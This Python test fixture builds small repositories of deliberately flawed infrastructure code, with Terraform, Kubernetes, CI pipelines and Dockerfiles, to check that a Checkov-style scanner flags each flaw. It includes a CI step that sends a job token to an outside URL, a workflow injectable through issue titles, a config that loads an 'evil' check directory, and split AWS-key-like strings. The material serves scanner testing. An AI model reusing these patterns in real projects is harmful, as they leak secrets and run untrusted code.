"""Small repositories with known mistakes. Written by the tests, so that none of it is a file of this repository."""

POD = """apiVersion: v1
kind: Pod
metadata:
  name: {name}
spec:
  containers:
  - name: web
    image: nginx
    securityContext: {{privileged: true}}
"""
BAD = {
    "main.tf": """resource "aws_s3_bucket" "logs" {
  bucket = "logs"
}
resource "aws_s3_bucket" "site" {
  #checkov:skip=CKV_AWS_18:the CDN has the log
  bucket = "site"
}
module "store" {
  source = "./modules/store"
}
module "far" {
  source  = "terraform-aws-modules/vpc/aws"
  version = "5.0.0"
}
""",
    "variables.tf": 'variable "env" {}\n',
    "comments.tf": "# nothing here\n",
    "modules/store/main.tf": 'resource "aws_ebs_volume" "disk" {\n  availability_zone = "x"\n  size = 1\n}\n',
    "json/bucket.tf.json": '{"resource": {"aws_s3_bucket": {"j": {"bucket": "x"}}}}',
    "plan/tfplan.json": """{"format_version": "1.1", "terraform_version": "1.5.0",
 "planned_values": {"root_module": {"resources": [{"address": "aws_s3_bucket.planned", "mode": "managed",
  "type": "aws_s3_bucket", "name": "planned", "provider_name": "registry.terraform.io/hashicorp/aws",
  "schema_version": 0, "values": {"bucket": "x"}}]}},
 "resource_changes": [{"address": "aws_s3_bucket.planned", "mode": "managed", "type": "aws_s3_bucket",
  "name": "planned", "change": {"actions": ["create"], "before": null, "after": {"bucket": "x"}}}],
 "configuration": {"root_module": {"resources": []}}}""",
    "k8s/pods.yaml": POD.format(name="a") + "---\n" + POD.format(name="b"),
    "k8s/role.json": """{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": "r"},
 "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}""",
    "k8s/custom.yaml": "apiVersion: example.org/v1\nkind: Widget\nmetadata: {name: w}\n",
    "k8s/list.yaml": "apiVersion: v1\nkind: List\nitems:\n- apiVersion: v1\n  kind: Service\n  metadata: {name: x}\n",
    ".k8s/hidden.yaml": POD.format(name="hidden"),
    "cfn/stack.yaml": """AWSTemplateFormatVersion: "2010-09-09"
Resources:
  B:
    Type: AWS::S3::Bucket
    Properties: {BucketName: !Sub "${AWS::StackName}-b"}
""",
    "sls/serverless.yml": """service: x
provider: {name: aws, runtime: nodejs18.x}
resources:
  Resources:
    B: {Type: "AWS::S3::Bucket", Properties: {BucketName: y}}
""",
    "arm/azuredeploy.json": """{
 "$schema": "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#",
 "contentVersion": "1.0.0.0", "resources": [{"type": "Microsoft.Storage/storageAccounts", "apiVersion": "2019-06-01",
 "name": "st", "location": "x", "kind": "StorageV2", "sku": {"name": "Standard_LRS"},
 "properties": {"supportsHttpsTrafficOnly": false}}]}""",
    "arm/main.bicep": """resource sa 'Microsoft.Storage/storageAccounts@2021-01-01' = {
  name: 'x'
  location: 'y'
  kind: 'StorageV2'
  sku: { name: 'Standard_LRS' }
  properties: { supportsHttpsTrafficOnly: false }
}
""",
    "Dockerfile": "FROM debian:latest\nRUN sudo apt-get update\nRUN sudo true\n",
    ".devcontainer/Dockerfile": "FROM debian:latest\n",
    "ansible/play.yml": """- name: play
  hosts: all
  tasks:
  - uri: {url: "http://x", validate_certs: no}
  - uri: {url: "http://y", validate_certs: no}
""",
    ".github/workflows/ci.yml": """name: ci
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
    - run: echo ${{ github.event.issue.title }}
    - run: echo ${{ github.event.issue.title }}
""",
    ".gitlab-ci.yml": "deploy:\n  script:\n    - curl https://x/?$CI_JOB_TOKEN\n",
    "azure-pipelines.yml": "jobs:\n- job: a\n  container: ubuntu:latest\n  steps:\n  - script: echo hi\n",
    "bitbucket-pipelines.yml": "image: foo:latest\npipelines:\n  default:\n    - step: {script: [echo x]}\n",
    ".circleci/config.yml": "version: 2.1\njobs:\n  build:\n    docker: [{image: 'foo:latest'}]\n    steps: [a]\n",
    "argo/workflow.yaml": """apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata: {generateName: x-}
spec:
  entrypoint: a
  templates:
  - name: a
    container: {image: alpine, command: [sh]}
""",
    "api/openapi.yaml": 'openapi: 3.0.0\ninfo: {title: x, version: "1"}\npaths: {}\n',
    # Put together here, so that no scanner of secrets takes this file for one.
    "values.yaml": f"a: {'AKIA'}{'QYLPMN5HNM4OBLQX'}\nb: {'AKIA'}{'QYLPMN5HNM4OBLQY'}\n",
    "compose.yaml": "services: {web: {image: nginx, privileged: true}}\n",
    "README.md": "not infrastructure code\n",
    # Switches checks off and loads code, if it is read.
    ".checkov.yaml": "skip-check: [CKV_AWS_18]\nexternal-checks-dir: [evil]\nsoft-fail: true\n",
    "evil/__init__.py": "open('pwned', 'w')\n",
    "evil/check.py": "open('pwned', 'w')\n",
    "yaml.py": "open('pwned', 'w')\n",
}
"""At least one check fails in each file named in EXPECTED."""

EXPECTED = {
    "main.tf": "CKV_AWS_18",
    "modules/store/main.tf": "CKV_AWS_3",
    "json/bucket.tf.json": "CKV_AWS_18",
    "plan/tfplan.json": "CKV_AWS_18",
    "k8s/pods.yaml": "CKV_K8S_16",
    "k8s/role.json": "CKV_K8S_49",
    "k8s/list.yaml": "CKV_K8S_21",
    ".k8s/hidden.yaml": "CKV_K8S_16",
    "cfn/stack.yaml": "CKV_AWS_18",
    "sls/serverless.yml": "CKV_AWS_18",
    "arm/azuredeploy.json": "CKV_AZURE_3",
    "arm/main.bicep": "CKV_AZURE_3",
    "Dockerfile": "CKV2_DOCKER_1",
    ".devcontainer/Dockerfile": "CKV_DOCKER_7",
    "ansible/play.yml": "CKV_ANSIBLE_1",
    ".github/workflows/ci.yml": "CKV_GHA_2",
    ".gitlab-ci.yml": "CKV_GITLABCI_1",
    "azure-pipelines.yml": "CKV_AZUREPIPELINES_1",
    "bitbucket-pipelines.yml": "CKV_BITBUCKETPIPELINES_1",
    ".circleci/config.yml": "CKV_CIRCLECIPIPELINES_1",
    "argo/workflow.yaml": "CKV_ARGO_1",
    "api/openapi.yaml": "CKV_OPENAPI_4",
    "values.yaml": "CKV_SECRET_2",
}
CLEAN = {"variables.tf", "k8s/custom.yaml"}
"""Infrastructure code in which nothing fails."""

BROKEN: dict[str, str | bytes] = {
    "good.tf": 'resource "aws_s3_bucket" "c" {\n  bucket = "c"\n}\n',
    "broken.tf": 'resource "aws_s3_bucket" "b" {\n  bucket = \n',
    "broken.tf.json": '{"resource": {"aws_s3_bucket": {',
    "broken.bicep": "resource sa 'x@1' = {\n name: \n",
    "k8s/broken.yaml": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: a\n spec: [\n",
    "k8s/tab.yaml": "apiVersion: v1\nkind: Pod\nmetadata:\n\tname: a\n",
    "k8s/template.yaml": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: {{ .Values.x }}\n",
    "k8s/broken.json": '{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "x"',
    "k8s/tagged.yaml": "apiVersion: v1\nkind: Pod\nmetadata: !vault x\n",
    "k8s/part.yaml": POD.format(name="a") + "---\n" + POD.format(name='"${NAME}"'),
    "cfn/broken.yaml": "AWSTemplateFormatVersion: x\nResources:\n  B:\n    Type: AWS::S3::Bucket\n   Properties: {\n",
    "cfn/broken.json": '{"AWSTemplateFormatVersion": "x", "Resources": {"B": {"Type": "AWS::S3::Bucket",}}',
    "sls/serverless.yml": "service: x\nprovider:\n  name: aws\n functions: [\n",
    "plan.json": '{"terraform_version": "1.5", "planned_values": {"root_module": {"resources": [',
    "arm.json": '{"$schema":"https://schema.management.azure.com/x/deploymentTemplate.json#","resources":[{',
    "latin/Dockerfile": b"FROM debian\n# caf\xe9\nRUN true\n",
    "ansible/play.yml": "- hosts: all\n  tasks:\n  - name: x\n    uri:\n     url: http://x\n   y: [no\n",
    ".github/workflows/ci.yml": "on: push\njobs:\n  a:\n   steps: [\n",
    ".github/workflows/odd.yml": "on: push\njobs: 5\n",
    ".gitlab-ci.yml": "image: python\njob:\n  script: [\n",
    "azure-pipelines.yml": "trigger: [main\nsteps: {\n",
    "bitbucket-pipelines.yml": "pipelines:\n  default: [\n",
    ".circleci/config.yml": "version: 2.1\njobs: [\n",
    "argo.yaml": "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nspec: [\n",
    "openapi.yaml": "openapi: 3.0.0\ninfo: {title: x}\npaths: [\n",
    "chart/Chart.yaml": "apiVersion: v2\nname: c\nversion: 0.1.0\n",
    "chart/templates/s.yaml": "apiVersion: v1\nkind: Service\nmetadata: {name: {{ .Values.n }}}\n",
    "settings.json": '{\n  // a comment\n  "a": 1,\n}',
}
"""Everything but good.tf, the chart's template and settings.json must be a gap."""
